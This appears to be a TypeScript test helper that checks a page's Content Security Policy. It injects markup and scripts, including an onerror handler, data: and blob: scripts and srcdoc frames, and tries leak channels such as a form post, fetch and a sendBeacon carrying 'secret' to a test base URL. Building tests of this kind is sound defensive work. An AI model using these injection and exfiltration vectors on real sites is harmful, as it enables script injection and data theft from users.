/**
 * Tries what markup or script that got into a page of ours could. Runs in that page: it may be carried there as text, and sees
 * nothing from outside. `globalThis.stopped` is what the policy has spoken of since, `globalThis.injected` is set by what got in.
 */
export async function intrude(base: string): Promise<void> {
  const stopped = new Set<string>();
  Object.assign(globalThis, { stopped });
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
    stopped.add(effectiveDirective),
  );
  const put = (markup: string) => document.body.insertAdjacentHTML("beforeend", markup);
  put(`<img src="${base}/image" onerror="globalThis.injected = 1">`);
  put(
    `<iframe src="${base}/frame"></iframe><iframe srcdoc="<script src='${base}/srcdoc'></script>"></iframe>`,
  );
  put(
    `<object data="${base}/object"></object><embed src="${base}/embed"><video src="${base}/video"></video>`,
  );
  put(`<link rel="stylesheet" href="${base}/style"><link rel="prefetch" href="${base}/prefetch">`);
  put(
    `<style>@font-face { font-family: x; src: url(${base}/font) } p { font-family: x; background: url(${base}/background) }</style><p>text</p>`,
  );
  put(`<form id="leak" action="${base}/form" method="post"><input name="a"></form><base href="${base}/">`);
  for (const src of [
    `${base}/script`,
    "data:text/javascript,globalThis.injected=1",
    URL.createObjectURL(new Blob(["globalThis.injected = 1"])),
  ]) {
    const script = document.createElement("script");
    script.src = src;
    document.body.append(script);
  }
  const inline = document.createElement("script");
  inline.textContent = "globalThis.injected = 1";
  document.body.append(inline);
  const tries = [
    () => document.querySelector<HTMLFormElement>("#leak")?.submit(),
    () => fetch(`${base}/fetch`),
    () => fetch(`${base}/no-cors`, { mode: "no-cors" }),
    () => navigator.sendBeacon(`${base}/beacon`, "secret"),
    () => new Worker(`${base}/worker`),
    () => new WebSocket(base.replace("http", "ws")),
    () => new EventSource(`${base}/events`),
    () => import(/* @vite-ignore */ `${base}/import`),
  ];
  for (const attempt of tries) {
    try {
      await Promise.resolve(attempt()).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
}

/** What the policies of all browsers speak of when `intrude` has tried. */
export const SPOKEN_OF_BY_ALL = [
  "connect-src",
  "font-src",
  "form-action",
  "frame-src",
  "img-src",
  "script-src-elem",
];

/** Chromium opens a connection for a frame before it asks the policy, and then sends nothing on it: that tells nobody anything. */
export const isRequest = (line: string): boolean => line !== "connection";
